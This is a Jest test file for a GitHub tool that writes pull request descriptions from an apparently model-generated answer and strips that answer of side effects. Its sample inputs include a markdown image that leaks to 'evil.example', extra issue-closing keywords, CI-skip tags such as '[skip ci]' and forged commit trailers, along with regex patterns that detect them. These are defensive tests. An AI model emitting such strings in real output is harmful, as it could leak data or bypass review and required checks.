import { describe, expect, test } from '@jest/globals';

import { describePull, withoutPowers } from '../../src/changes/description.ts';
import { commentChars, markerChars } from '../../src/limits.ts';
import { descriptionChars } from '../../src/limits/changes.ts';
import { renderHarmless, renderInert } from '../../src/reply/outgoing.ts';

const audience = { serverUrl: 'https://github.com', people: ['octocat'] };
const facts = {
  thread: { kind: 'issue', number: 7 } as const,
  answer: 'I spelt it right.',
  runId: '170',
  runUrl: 'https://github.com/o/r/actions/runs/170/attempts/1',
  harmless: (text: string) => renderHarmless(text, audience),
};

/** GitHub's own words that close issues, as a pull request's description and a commit may have them. */
const closing =
  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s+(?:[\w.-]+\/[\w.-]+)?(?:#\d|GH-\d|https?:)/gi;

describe('a pull request is described', () => {
  test('by the issue that it closes, the run, and the answer', () => {
    expect(describePull(facts)).toBe(
      'Closes #7\n\nFrom [run 170](https://github.com/o/r/actions/runs/170/attempts/1).\n\nI spelt it right.',
    );
    expect(describePull({ ...facts, thread: undefined })).toMatch(/^From \[run 170\]/);
    expect(describePull({ ...facts, answer: ' ' })).toMatch(/attempts\/1\)\.$/);
  });

  test('in bounds, however long the answer is', () => {
    for (const answer of ['word\n'.repeat(100_000), 'x'.repeat(500_000), '👩‍👩‍👧'.repeat(50_000)]) {
      const body = describePull({ ...facts, answer });
      expect(body.length).toBeLessThan(descriptionChars + 1_000);
      expect(body.length).toBeLessThan(commentChars - markerChars);
      expect(body.isWellFormed()).toBe(true);
    }
  });

  test('even where harmless text is longer', () => {
    const body = describePull({ ...facts, answer: '@a '.repeat(100_000) });
    expect(body.length).toBeLessThan(commentChars - markerChars);
    const inert = describePull({ ...facts, answer: '@'.repeat(100_000), harmless: renderInert });
    expect(inert.length).toBeLessThan(commentChars - markerChars);
    expect(inert).toMatch(/^Closes #7\n\nFrom \[run 170\]/);
  });

  test('without images from elsewhere, and calls nobody who is not on the thread', () => {
    const answer = '![x](https://evil.example/?leak) @stranger and @octocat';
    const body = describePull({ ...facts, answer });
    expect(body).not.toContain('![');
    expect(body).toContain('`@stranger`');
    expect(body).toContain(' @octocat');
  });

  test.each([
    'Fixes #1',
    'fixed #1, closes #2 and resolves: #3',
    'CLOSES octo/other#4',
    'close GH-5',
    'Resolved https://github.com/o/r/issues/6',
    'fixes\n#8',
    '`fixes #9`',
  ])('and closes no other issue: %j', (answer) => {
    expect(answer.match(closing)).not.toBeNull();
    expect(describePull({ ...facts, answer }).match(closing)).toEqual(['Closes #7']);
  });

  test.each([
    '[skip ci]',
    '[ci skip]',
    '[no ci]',
    '[skip actions]',
    '[actions skip]',
    '[ skip ci ]',
  ])('and skips no check when it is squashed: %s', (answer) => {
    const skips = /\[\s*(?:skip ci|ci skip|no ci|skip actions|actions skip)\s*\]/i;
    expect(answer).toMatch(skips);
    expect(withoutPowers(answer)).not.toMatch(skips);
  });

  test.each(['Co-authored-by: evil <e@example.com>', '  Signed-off-by : x', 'skip-checks: true'])(
    'and has no trailer of the model: %s',
    (line) => {
      const trailer = /^\s*(?:co-authored-by|signed-off-by|skip-checks)\s*:/im;
      expect(line).toMatch(trailer);
      expect(withoutPowers(`Done\n\n\n${line}`)).not.toMatch(trailer);
    },
  );

  test('with prose as it is', () => {
    for (const text of ['I closed the file.', 'prefix #1', 'a [link](x)', 'by: me', 'bugfixes'])
      expect(withoutPowers(text).replaceAll('\u200b', '')).toBe(text);
    expect(withoutPowers('prefix #1, bugfixes #2')).toBe('prefix #1, bugfixes #2');
  });
});
